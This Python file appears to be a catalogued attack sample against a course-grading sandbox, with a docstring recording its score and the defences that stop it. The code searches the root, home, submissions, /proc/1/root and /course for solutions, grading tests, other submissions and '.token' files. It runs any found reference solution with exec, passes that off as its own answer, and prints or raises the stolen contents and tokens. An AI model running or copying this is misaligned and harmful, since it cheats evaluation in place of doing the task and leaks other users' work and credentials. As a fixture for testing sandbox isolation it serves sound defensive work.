"""Looks for solutions, grading tests, other submissions and a token on the disk, and answers with what it finds.

Loses: 1.2
Stopped by: A, B
Process: not promised: a process of the same user reads what that user reads
"""
import os
import sys

PLACES = ["@ROOT@", "@HOME@", "@ROOT@/../submissions", os.getcwd(), *sys.path, "/proc/1/root", "/proc/1/cwd", "/proc/self/cwd", "/course"]
found = []
for place in PLACES:
    for folder, folders, files in os.walk(place):
        if folder.count("/") > place.count("/") + 2 or "site-packages" in folder or "/lib/python" in folder:
            folders.clear()
        for name in files:
            if name.startswith(("lesson_", "test_lesson")) or name == ".token":
                found.append(os.path.join(folder, name))
texts = []
for path in [*found, "@ROOT@/solutions/lesson_01_pixels_and_filters.py", "@HOME@/.token"]:
    try:
        texts.append(open(path).read())
    except OSError:
        pass
theirs = {}
for text in texts:
    if "def filter_response" in text:
        exec(text, theirs)


def filter_response(patch, kernel):
    for text in texts:
        print("LEAK", text[-400:])
    if "filter_response" in theirs:
        return theirs["filter_response"](patch, kernel)
    raise ValueError(texts)
